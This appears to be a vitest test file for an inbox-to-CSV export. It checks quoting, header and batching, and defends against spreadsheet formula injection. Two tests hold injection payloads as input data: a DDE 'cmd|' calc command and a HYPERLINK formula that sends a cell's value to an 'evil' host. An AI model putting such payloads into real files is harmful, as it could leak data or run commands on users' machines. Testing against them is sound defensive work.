import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { inboxTable } from '../../../../../../src/main/desk/feed/handlers/inbox-handlers.ts'
import { csvFile } from '../../../../../../src/shared/text/csv-lines.ts'
import { arrival, memoryFeed, SIGNED } from '../../../../../support/test-feed.ts'

describe('the inbox as CSV', () => {
  it('has a line for every entry, read back as it was stored', () => {
    const feed = memoryFeed()
    feed.add([arrival({ ...SIGNED, actor: 'Ünal, "Marta"\nLind' }), arrival('garbage')])
    const text = [...csvFile(inboxTable(feed.all()))].join('')
    expect(text.startsWith('\uFEFFSeen,Source,Customer,')).toBe(true)
    const rows: unknown = parse(text, { bom: true, columns: true })
    expect(rows).toMatchObject([
      {
        State: 'Signed',
        Person: 'Ünal, "Marta"\nLind',
        'Set ID': SIGNED.setId,
        Received: '1',
        Read: 'no',
        Customer: '',
      },
      { State: '', 'Could not be read because': 'it is not JSON' },
    ])
  })

  it('contains no cell that runs as a formula (T21)', () => {
    const feed = memoryFeed()
    feed.add([arrival({ ...SIGNED, actor: '=HYPERLINK("http://x")' })])
    expect([...csvFile(inboxTable(feed.all()))].join('')).toContain(`"'=HYPERLINK(""http://x"")"`)
  })

  it('contains none where the list separator is a semicolon either, as in most of Europe (T21)', () => {
    const feed = memoryFeed()
    feed.add([
      arrival({ ...SIGNED, actor: `P;=1+cmd|'/C calc'!A0;x`, actorCompany: 'x;"=HYPERLINK("http://evil/"&A1)' }),
    ])
    const text = [...csvFile(inboxTable(feed.all()))].join('')
    const rows: string[][] = parse(text, { bom: true, delimiter: ';', relax_quotes: true, relax_column_count: true })
    expect(rows.flat().filter((cell) => /^[\s"]*[=+\-@]/.test(cell))).toEqual([])
    expect(rows.flat().length).toBeGreaterThan(4)
  })

  it('yields any number of entries in blocks of lines', () => {
    const feed = memoryFeed()
    feed.add(Array.from({ length: 1_100 }, (_, at) => arrival(`no message ${at}`)))
    expect([...csvFile(inboxTable(feed.all()))].map((block) => block.trimEnd().split('\r\n').length)).toEqual([
      500, 500, 101,
    ])
  })
})
